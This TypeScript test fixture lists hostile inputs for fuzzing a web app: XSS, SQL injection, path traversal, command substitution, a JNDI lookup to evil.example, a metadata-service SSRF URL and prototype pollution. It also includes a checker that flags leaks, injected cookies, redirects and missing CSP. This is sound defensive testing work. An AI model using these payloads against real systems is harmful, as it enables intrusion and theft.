/** The values sent to break something: one set for the drill in the tests and for `npm run attack`. */

/** Markup that a page must never show unescaped. */
export const MARKUP = [
  "<script>alert(7)</script>",
  '"><img src=x onerror=alert(7)>',
  "'><svg onload=alert(7)>",
  "</title><script>alert(7)</script>",
];
/** Texts that have broken somebody's form, query, log or table. */
export const PAYLOADS = [
  ...MARKUP,
  "javascript:alert(7)",
  "data:text/html,<script>alert(7)</script>",
  "//evil.example/",
  "https://evil.example",
  "/\\evil.example",
  "</textarea></title><script>alert(7)</script>",
  "<a href=javascript:alert(7)>x</a>",
  "\u2028alert(7)\u2029",
  "</script><script>alert(7)</script>",
  "'; DROP TABLE users; --",
  "1;PRAGMA table_info(users)",
  "x' AND randomblob(100000000) --",
  "%' OR '1'='1",
  "* OR rowid:1",
  '"unclosed NEAR(',
  "1) OR 1=1 --",
  "' UNION SELECT password_hash FROM users --",
  "%27%20OR%201=1",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "%00",
  "\u0000",
  "\u202Egnp.exe",
  "\uFEFF",
  "{{7*7}}",
  "${7*7}",
  "<%= 7*7 %>",
  '=HYPERLINK("https://evil.example")',
  "a\r\nSet-Cookie: stolen=1",
  "a%0d%0aSet-Cookie:%20stolen=1",
  "$(sleep 9)",
  "`id`",
  "${jndi:ldap://evil.example/a}",
  "http://169.254.169.254/latest/meta-data/",
  "file:///etc/passwd",
  "(a+)+$",
  "2026-02-31",
  "9999-99-99T99:99:99Z",
  "00000000000000000000000000",
  "1e99999",
  "-1",
  "0",
  "NaN",
  "null",
  "undefined",
  "[]",
  "{}",
  "true",
  "__proto__",
  "constructor",
  "toString",
  "x".repeat(70_000),
  "\u0301".repeat(5_000),
  "9".repeat(400),
  "%",
  "%%%",
  "+",
  "\t\u00A0\u3000",
];
/** Values that no field of ours is. */
export const JSON_VALUES: unknown[] = [
  null,
  true,
  -1,
  1e308,
  [],
  {},
  [[[[[]]]]],
  { $ne: null },
  { $gt: "" },
  { toString: 1 },
  // A literal would set the prototype instead.
  JSON.parse('{"__proto__":{"admin":true}}'),
  ["\uD800"],
];

/** Words of our insides: a stack, a path, a statement. */
export const LEAKS = /SQLITE|D1_ERROR|Failed query|\bINSERT INTO\b|node_modules|\.[jt]sx?:\d+:\d+|\n\s+at \S+ \(/;
/** An attribute that would run what it names. */
const RUNS = /\s(?:href|src|action|formaction|data)="\s*(?:javascript:|data:text\/html|vbscript:)/i;

/** The fault of an answer whatever was asked; null where nothing is. `text` is its whole body. */
export function harmIn(
  { status, headers, text }: { status: number; headers: Headers; text: string },
  origin: string,
): string | null {
  if (status >= 500) return `status ${status}: ${text.slice(0, 200)}`;
  const leak = LEAKS.exec(text)?.[0];
  if (leak !== undefined) return `tells of our insides: ${leak.trim()}`;
  if (headers.getSetCookie().some((line) => /^\s*stolen=/.test(line))) return "sets a cookie of the request's making";
  const to = headers.get("Location");
  if (to !== null && new URL(to, origin).origin !== origin) return `leads to ${to.slice(0, 100)}`;
  if (!(headers.get("Content-Type") ?? "").includes("html")) return null;
  const markup = MARKUP.find((each) => text.includes(each));
  if (markup !== undefined) return `shows ${markup} as it stands`;
  if (RUNS.test(text)) return `has an attribute that runs: ${RUNS.exec(text)?.[0] ?? ""}`;
  return /default-src 'self'.*script-src 'self' 'nonce-|script-src 'self'( |;)|default-src 'none'/.test(
    headers.get("Content-Security-Policy") ?? "",
  )
    ? null
    : "has no Content-Security-Policy";
}
